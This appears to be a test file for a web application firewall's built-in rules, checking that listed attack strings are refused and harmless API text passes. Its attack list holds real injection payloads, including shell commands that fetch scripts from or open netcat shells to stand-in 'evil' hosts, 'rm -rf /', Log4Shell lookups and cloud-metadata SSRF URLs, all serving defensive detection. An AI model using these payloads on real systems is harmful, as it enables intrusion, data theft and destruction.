// The package's own rules: attacks that they must see, by rule, and what people and programs write that must pass.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { describe, test } from 'node:test';
import { loadRules } from '../../src/config/load-rules.ts';
import { formatDiagnostic } from '../../src/core/index.ts';
import { InspectionRules } from '../../src/guards/inspect/index.ts';
import { findCorpus } from '../support/corpus.ts';

interface Judged {
  readonly ids: readonly number[];
  readonly refused: boolean;
}

function judgeWith(paranoia: number) {
  const loaded = loadRules({ rules: ['builtin'], paranoia, mode: 'detect' }, process.cwd());
  assert.deepEqual(loaded.diagnostics.map(formatDiagnostic), []);
  const rules = new InspectionRules(loaded.ruleSets);
  const profile = rules.profile(loaded.inspect!);
  const judge = (
    uri: string,
    headers: Readonly<Record<string, string>> = {},
    body = '',
    answer: string | null = null,
  ): Judged => {
    const transaction = rules.begin(profile);
    transaction.connection('192.0.2.1', 0, '', 443);
    transaction.requestLine(body === '' ? 'GET' : 'POST', uri, 'HTTP/1.1');
    transaction.requestHeader('host', 'api.example.com');
    for (const [name, value] of Object.entries(headers)) transaction.requestHeader(name, value);
    transaction.runRequestHeaders();
    if (body !== '') transaction.requestBody(Buffer.from(body));
    transaction.runRequestBody();
    if (answer !== null) {
      transaction.responseStatus(200, 'HTTP/1.1');
      transaction.responseHeader('content-type', 'application/json');
      transaction.runResponseHeaders();
      transaction.responseBody(Buffer.from(answer));
      transaction.runResponseBody();
    }
    transaction.runLogging();
    const { matches } = transaction;
    return { ids: matches.map(({ ruleId }) => ruleId), refused: matches.some((match) => match.isDisruptive) };
  };
  return judge;
}

const judge = judgeWith(1);
const json = { 'content-type': 'application/json' };
const inQuery = (value: string): Judged =>
  judge(`/things?q=${encodeURIComponent(value).replace(/'/g, '%27')}`);
const inBody = (value: string): Judged => judge('/things', json, JSON.stringify({ a: { text: [value] } }));

/** Rule and a value that it must see, in a query and in a member of a JSON body. */
const attacks: readonly (readonly [number, string])[] = [
  [8101010, "1' OR '1'='1"],
  [8101020, '1 UNION/**/SELECT password FROM users'],
  [8101020, '-1 union all select null,null'],
  [8101030, "1'; WAITFOR DELAY '0:0:5'--"],
  [8101030, '1 and sleep(5)'],
  [8101030, '1 or pg_sleep(5)'],
  [8101040, 'x from information_schema.tables'],
  [8101050, "x'; DROP TABLE users"],
  [8101050, '1; update users set admin=1'],
  [8101060, "admin' or 1=1"],
  [8101060, "x' and password like 'a"],
  [8102010, '<script>alert(1)</script>'],
  [8102020, '<iframe src=//evil>'],
  [8102030, '<img src=x onerror=alert(1)>'],
  [8102040, 'javascript:alert(1)'],
  [8102040, 'java\tscript:alert(1)'],
  [8102050, 'data:text/html;base64,PHNjcmlwdD4='],
  [8103010, 'x; wget http://evil/x.sh'],
  [8103010, '$(curl evil)'],
  [8103010, '`whoami`'],
  [8103010, 'a | bash'],
  [8103020, '127.0.0.1; cat /etc/hosts'],
  [8103020, 'x && rm -rf /'],
  [8103020, 'x|nc -e 10.0.0.1'],
  [8103030, '$(id)'],
  [8103030, 'x; ls'],
  [8103040, '() { :;}; echo vulnerable'],
  [8103050, '/bin/bash'],
  [8103050, 'cat${IFS}x'],
  [8103050, 'cmd.exe /c dir'],
  [8103060, '<?php system($_GET["c"]);'],
  [8103070, "require('child_process').exec('id')"],
  [8103080, "__import__('os').system('id')"],
  [8103080, 'Runtime.getRuntime().exec("id")'],
  [8104010, '../../../secret'],
  [8104010, '..\\..\\secret'],
  [8104010, '..%2f..%2fsecret'],
  [8104030, '/etc/passwd'],
  [8104030, '/proc/self/environ'],
  [8104030, 'C:\\Windows\\win.ini'],
  [8104030, '/var/run/secrets/kubernetes.io'],
  [8104040, 'php://filter/convert.base64-encode/resource=x'],
  [8104050, 'file.png\0.php'],
  [8105020, '{"$ne": null}'],
  [8105020, "{'$where': '1'}"],
  [8105030, "a' || this.password == 'x"],
  [8105030, 'x; return true'],
  [8105050, '{"__proto__":{"admin":true}}'],
  [8105060, '*)(uid=*))(|(uid=*'],
  [8105070, "x' or count(parent::*)>0"],
  [8106010, '{{7*7}}'],
  [8106010, "{{ ''.__class__.__mro__ }}"],
  [8106010, '{{config.items()}}'],
  [8106020, '${7*7}'],
  [8106020, '#{T(java.lang.Runtime).getRuntime()}'],
  [8106020, '%{#context["x"]}'],
  [8106030, '<%= 7*7 %>'],
  [8106030, '{% import os %}'],
  [8106030, '<#assign x="freemarker">'],
  [8106040, "x.__globals__['os']"],
  [8106050, '${jndi:ldap://evil/a}'],
  [8106050, '${${lower:j}ndi:ldap://evil/a}'],
  [8106050, '${${::-j}${::-n}di:rmi://evil}'],
  [8106060, 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=='],
  [8106060, 'O:8:"stdClass":1:{s:1:"a";i:1;}'],
  [8106060, '!!python/object/apply:os.system ["id"]'],
  [8107010, 'http://169.254.169.254/latest/meta-data/'],
  [8107010, 'http://metadata.google.internal/computeMetadata/v1/'],
  [8107010, 'http://[::ffff:169.254.169.254]/'],
  [8107010, 'http://2852039166/'],
  [8107010, 'http://0xa9fea9fe/'],
  [8107020, 'http://127.0.0.1:6379/'],
  [8107020, 'http://localhost/admin'],
  [8107020, 'https://user@10.1.2.3/'],
  [8107020, 'http://192.168.0.1/'],
  [8107020, 'http://[::1]:8080/'],
  [8107020, 'http://2130706433/'],
  [8107020, 'http://0x7f000001/'],
  [8107020, 'http://0177.0.0.1/'],
  [8107020, 'http://vault.corp/'],
  [8107020, 'http://127.0.0.1.nip.io/'],
  [8107030, 'gopher://127.0.0.1:6379/_SET'],
  [8107030, 'file:///etc/hosts'],
  [8107030, 'dict://x:11211/'],
  [8107040, 'http://good.example\\@evil.example/'],
  [8110010, 'x\r\nSet-Cookie: a=b'],
  [8110020, 'GET /admin HTTP/1.1'],
];

describe('attacks', () => {
  for (const [rule, value] of attacks) {
    test(`${rule} sees ${JSON.stringify(value)}`, () => {
      for (const judged of [inQuery(value), inBody(value)]) {
        assert.ok(judged.ids.includes(rule), `matched ${judged.ids}`);
        assert.ok(judged.refused);
      }
    });
  }

  test('in path parameters, names, cookies and fields', () => {
    assert.ok(judge("/things/1'%20or%20'1'='1").refused);
    assert.ok(judge('/things?user[$ne]=x').ids.includes(8105010));
    assert.ok(judge('/things', json, '{"user":{"$gt":""}}').ids.includes(8105010));
    assert.ok(judge('/things', json, '{"a":{"__proto__":{"b":1}}}').ids.includes(8105040));
    assert.ok(judge('/things?constructor[prototype][x]=1').ids.includes(8105040));
    assert.ok(judge('/things', { cookie: 'a=<script>alert(1)</script>' }).refused);
    assert.ok(judge('/things', { 'user-agent': '${jndi:ldap://x}' }).ids.includes(8106050));
    assert.ok(judge('/things', { 'x-api-version': '${jndi:ldap://x}' }).ids.includes(8106050));
    assert.ok(judge('/things', { 'user-agent': 'sqlmap/1.7' }).ids.includes(8110030));
    assert.ok(judge('/things', { 'x-original-url': '/admin' }).ids.includes(8110040));
    const typed = '{"v":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"x"}}';
    assert.ok(judge('/things', json, typed).ids.includes(8106070));
  });

  test('in forms, uploads and XML', () => {
    const form = { 'content-type': 'application/x-www-form-urlencoded' };
    assert.ok(judge('/things', form, 'a=%27+or+1%3D1').refused);
    const multipart = { 'content-type': 'multipart/form-data; boundary=b' };
    const part = (name: string, value: string) =>
      `--b\r\nContent-Disposition: form-data; ${name}\r\n\r\n${value}\r\n--b--\r\n`;
    assert.ok(judge('/things', multipart, part('name="a"', '<script>alert(1)</script>')).refused);
    assert.ok(judge('/things', multipart, part('name="a"; filename="x.php"', 'x')).ids.includes(8104060));
    const xml = { 'content-type': 'application/xml' };
    assert.ok(judge('/things', xml, "<a><b>1' or '1'='1</b></a>").refused);
    assert.ok(
      judge('/things', xml, '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>').refused,
    );
  });

  test('GraphQL that is too much', () => {
    const graphql = (query: string): Judged => judge('/graphql', json, JSON.stringify({ query }));
    assert.ok(graphql(`query ${'{ a '.repeat(20)}${'}'.repeat(20)}`).ids.includes(8109010));
    const aliases = Array.from({ length: 60 }, (_, i) => `a${i}: user`).join(' ');
    assert.ok(graphql(`{ ${aliases} }`).ids.includes(8109020));
    assert.ok(graphql(`{ a ${'@skip(if: false) '.repeat(40)} }`).ids.includes(8109030));
    const batch = JSON.stringify(Array.from({ length: 12 }, () => ({ query: '{ a }' })));
    assert.ok(judge('/graphql', json, batch).ids.includes(8109040));
    const fine =
      'query Orders($first: Int!) { orders(first: $first) { nodes { id lines { sku } customer { name } } } }';
    assert.equal(graphql(fine).refused, false);
    const asked = judgeWith(2)(
      '/graphql',
      json,
      JSON.stringify({ query: '{ __schema { types { name } } }' }),
    );
    assert.ok(asked.ids.includes(8109510));
  });
});

/** What real APIs carry: none of it may be refused at paranoia level 1. */
const harmless: readonly string[] = [
  "O'Reilly & Sons",
  "d'Artagnan; the 4th musketeer",
  "It's 5 o'clock and I'm done -- finally",
  'Rock & Roll, drum & bass, R&B',
  'select a colour, then update your order',
  'The union may select a representative',
  'drop us a line or create an account',
  'Please find attached; cat food & dog food',
  'Tom; find me at the park',
  'sleep well; kill the lights',
  'Order by 5pm, group by department',
  '50% off, and 3 < 4',
  'a<b and c>d',
  '1 + 1 = 2 or 3',
  'price >= 100 && price <= 200',
  'C:\\Users\\Ingrid\\Documents',
  '/home/ingrid/project/README.md',
  'see ../docs/index.md',
  'https://example.com/a/b?c=d&e=f#g',
  'https://api.example.com/callback?state=abc|def',
  'ftp.example.com',
  'mailto:ingrid@example.com',
  'http://10things.example.com/',
  'http://internal-affairs.example.com/',
  'ingrid.solberg+orders@example.co.uk',
  '+47 22 12 34 56 (home)',
  '2026-11-25T10:00:00.000Z',
  'eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJpbmdyaWQifQ.c2lnbmF0dXJl',
  '550e8400-e29b-41d4-a716-446655440000',
  'NO9386011117947',
  '{"nested":"json","as":["text"]}',
  '[1,2,3]',
  '# Heading\n\n- item *one*\n- item `two`\n\n> quote',
  'if (a) { return b; } else { return c; }',
  'function add(a, b) { return a + b }',
  'SELECT is a word; so is FROM',
  'grüße aus Zürich, 東京, Ελλάδα',
  '👩‍🚀 🚀',
  'C++ or C#? Use std::vector<int>!',
  '{{ name }} has ordered {{ count }} items',
  'Hello {name}, your total is ${amount}',
  '$5.00 (five dollars) #1 @home',
  '*** SALE *** !!!',
  'key=value; path=/; secure',
  'rm is short for room; ls is a land survey',
  'What is 7*7?',
  'php, node and python developers wanted',
  'Windows 11 / macOS 15 / Linux',
  'image/svg+xml',
  'version >= 1.2.3 || ^2.0.0',
  'true',
  '-1',
  'null',
  'N/A',
  '../',
  'Ignore case: A-Z, a-z; digits: 0-9',
  'scripted by J. Doe (onset: 5pm)',
  'She said: "don\'t" and left; nobody followed.',
  '0001234567',
  '1234567890',
  'data:image/png;base64,iVBORw0KGgo=',
];

describe('what is harmless passes', () => {
  for (const value of harmless) {
    test(JSON.stringify(value), () => {
      for (const judged of [inQuery(value), inBody(value)]) {
        assert.equal(judged.refused, false, `matched ${judged.ids}`);
      }
    });
  }

  test('usual requests of programs and browsers', () => {
    const headers = {
      'user-agent':
        'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
      accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
      'accept-language': 'en-GB,en;q=0.9,nb;q=0.8',
      'accept-encoding': 'gzip, deflate, br, zstd',
      referer: 'https://shop.example.com/search?q=blue%20shoes&sort=price',
      cookie: 'session=abc123; theme=dark; _ga=GA1.2.123456789.1700000000',
      'if-none-match': 'W/"5-abc"',
      traceparent: '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01',
      authorization: 'Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJpbmdyaWQifQ.c2lnbmF0dXJl',
      'sec-ch-ua': '"Chromium";v="131", "Not_A Brand";v="24"',
    };
    assert.deepEqual(judge('/v1/orders?filter[status]=open&sort=-created&page[size]=20', headers).ids, []);
    const redirect =
      '/authorize?response_type=code&redirect_uri=http%3A%2F%2F127.0.0.1%3A8123%2Fcb&state=a.b-c~d';
    assert.equal(judge(redirect, headers).refused, false);
    const jsonLd =
      '{"@context":"https://schema.org","@type":"Person","name":"Ingrid","$schema":"https://x.example/s"}';
    assert.equal(judge('/things', { ...headers, ...json }, jsonLd).refused, false);
  });
});

describe('answers', () => {
  const answers: readonly (readonly [number, string])[] = [
    [8120010, '{"key":"-----BEGIN RSA PRIVATE KEY-----\\nMII"}'],
    [8120020, '{"key":"AKIAIOSFODNN7EXAMPLE"}'],
    [8120030, '{"error":"ORA-00933: SQL command not properly ended"}'],
    [8120030, '{"error":"PG::UndefinedTable: relation"}'.replace('UndefinedTable', 'SyntaxError')],
    [8120040, '{"stack":"Error: x\\n    at f (/app/src/index.js:10:5)"}'],
    [8120040, 'Traceback (most recent call last):\n  File "a.py"'],
    [8120040, '\tat com.example.app.Main.run(Main.java:42)'],
    [8120040, 'goroutine 1 [running]:'],
    [8120050, 'root:x:0:0:root:/root:/bin/bash'],
  ];
  for (const [rule, body] of answers) {
    test(`${rule} sees ${JSON.stringify(body.slice(0, 50))}`, () => {
      const judged = judge('/things', {}, '', body);
      assert.ok(judged.ids.includes(rule), `matched ${judged.ids}`);
      assert.ok(judged.refused);
    });
  }

  test('usual answers pass', () => {
    const bodies = [
      '{"id":"ord_1","note":"at Main Street (north: 5:30)","error":null}',
      '{"type":"about:blank","title":"Not Found","status":404}',
      '<!doctype html><title>Shop</title><p>root: the base of a plant</p>',
      '{"publicKey":"-----BEGIN PUBLIC KEY-----\\nMIIB"}',
      '{"message":"java developers wanted in Exceptionville"}',
    ];
    for (const body of bodies) assert.deepEqual(judge('/things', {}, '', body).ids, [], body);
  });
});

const corpus = findCorpus('libinjection');

/** Strings of a folder, one a line as a form sends them. */
function linesOf(kind: string): string[] {
  const folder = new URL(`${kind}/`, corpus.folder);
  return readdirSync(folder)
    .sort()
    .flatMap((file) => readFileSync(new URL(file, folder), 'latin1').split(/\r?\n/))
    .filter((line) => line.trim() !== '')
    .map((line) =>
      line
        .replaceAll('+', ' ')
        .replace(/%([0-9a-f]{2})/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16))),
    );
}

/** Every byte escaped, as the corpus is latin1. */
const escaped = (value: string): string =>
  value.replace(/[^A-Za-z0-9]/g, (c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`);

test('collected attacks are seen, and collected false alarms are few', { skip: corpus.skip }, () => {
  const share = (kind: string): { seen: number; total: number } => {
    const values = linesOf(kind);
    const seen = values.filter((value) => judge(`/things?q=${escaped(value)}`).refused).length;
    return { seen, total: values.length };
  };
  const [sqli, xss, benign] = [share('sqli'), share('xss'), share('benign')];
  assert.ok(sqli.total > 10_000 && xss.total > 1000 && benign.total > 250);
  assert.ok(sqli.seen / sqli.total > 0.99, `${sqli.seen} of ${sqli.total} SQL injections`);
  assert.ok(xss.seen / xss.total > 0.99, `${xss.seen} of ${xss.total} scripts`);
  assert.ok(benign.seen / benign.total < 0.02, `${benign.seen} of ${benign.total} harmless`);
});
